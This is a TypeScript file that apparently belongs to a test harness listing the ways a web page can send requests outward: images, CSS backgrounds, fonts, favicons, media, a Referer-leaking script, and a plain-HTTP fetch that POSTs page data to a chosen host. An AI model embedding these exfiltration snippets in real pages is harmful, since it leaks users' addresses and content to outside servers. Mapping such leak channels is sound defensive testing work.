// What markup and style sheets load.
import { channel, type Channel } from '../channel.ts';
import { html } from '../markup.ts';

export const elements: readonly Channel[] = [
  channel('img', ({ to }) => ({ page: html(`<img src="${to('p.gif')}">`) })),
  channel('css_bg', ({ to }) => ({ page: html(`<style>body { background: url("${to('p.gif')}") }</style>`) })),
  channel('font', ({ to }) => ({
    page: html(`<style>@font-face { font-family: f; src: url("${to('f.woff2')}") } body { font-family: f }</style>`),
  })),
  // Of no effect outside the head.
  channel('favicon', ({ to }) => ({
    page: `<!doctype html><head><link rel="icon" href="${to('p.gif')}"></head><body>A page.`,
    notInShell: 'it has no tabs to show icons in',
  })),
  channel('media', ({ to }) => ({ page: html(`<video src="${to('v.mp4')}" preload="auto" autoplay muted></video>`) })),
  // A script that gets the page's whole address as its Referer.
  channel('script_ref', ({ to, in: mark }) => ({
    page: html(`<script src="${to('t.js')}" referrerpolicy="unsafe-url"></script>`),
    query: `?r=${mark.header}`,
    carries: ['url', 'header'],
  })),
  // A page without TLS: its requests say nothing about themselves (no Sec-Fetch headers).
  channel('plain_http', ({ host, in: mark }) => ({
    page: html(`<script>fetch('http://${host}/c?u=${mark.url}', { method: 'POST', body: '${mark.body}' })</script>`),
    scheme: 'http',
    carries: ['url', 'body'],
  })),
];
